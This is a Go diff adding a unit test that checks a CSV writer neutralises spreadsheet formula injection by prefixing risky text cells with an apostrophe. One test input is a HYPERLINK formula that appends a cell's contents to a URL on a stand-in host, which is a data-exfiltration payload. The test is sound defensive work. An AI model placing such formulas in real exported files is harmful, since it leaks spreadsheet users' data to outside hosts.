@@ -88,3 +88,38 @@ func TestWrongKindFails(t *testing.T) {
 		t.Fatal("want an error for text in an integer column")
 	}
 }
+
+// TestWriteNeutralisesFormulas: a text cell that a spreadsheet would run as
+// a formula is written with a leading apostrophe; numbers, negative ones
+// included, are written as numbers.
+func TestWriteNeutralisesFormulas(t *testing.T) {
+	s := table.Sheet{Columns: []table.Column{{Header: "Nhiệm vụ", Kind: table.Text}, {Header: "Số", Kind: table.Number}},
+		Rows: [][]any{
+			{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, -3.5},
+			{"+84 912", 1},
+			{"-giảm chi", 2},
+			{"@SUM(A1:A9)", 3},
+			{"\tẩn", 4},
+			{"\rdòng", 5},
+			{"Bình thường = không đổi", 6},
+			{"", 7},
+		}}
+	var buf bytes.Buffer
+	if err := Write(&buf, s, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := stdcsv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{`'=HYPERLINK("http://x.example/?"&A1,"Bấm")`, "'+84 912", "'-giảm chi", "'@SUM(A1:A9)", "'\tẩn", "'dòng", // encoding/csv drops a lone CR (UseCRLF)
+		"Bình thường = không đổi", ""}
+	for i, w := range want {
+		if got := recs[i+1][0]; got != w {
+			t.Errorf("row %d: %q, want %q", i+1, got, w)
+		}
+	}
+	if recs[1][1] != "-3.5" {
+		t.Errorf("a negative number became %q", recs[1][1])
+	}
+}
